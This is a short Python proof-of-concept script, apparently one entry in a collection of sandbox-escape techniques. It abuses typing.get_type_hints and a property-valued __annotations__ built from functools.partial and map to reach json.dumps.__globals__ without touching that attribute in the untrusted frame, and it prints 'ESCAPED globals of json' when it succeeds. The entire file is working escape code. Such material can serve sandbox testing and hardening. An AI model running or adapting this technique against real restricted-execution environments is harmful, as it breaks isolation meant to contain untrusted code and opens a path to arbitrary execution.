# technique: get_type_hints reads __annotations__: a property that reads __globals__ of a trusted function, below the frame that may
# goal: globals
# source: own analysis: a grant without its operand
import functools
import json
import operator
import typing
kept = []


class Fake:
    __annotations__ = property(functools.partial(
        dict.fromkeys, map(kept.append, map(operator.attrgetter('__globals__'), [json.dumps]))))


try:
    typing.get_type_hints(Fake())
except (TypeError, NameError):
    pass
if kept[0]['__name__'] == 'json':
    print('ESCAPED globals of json')
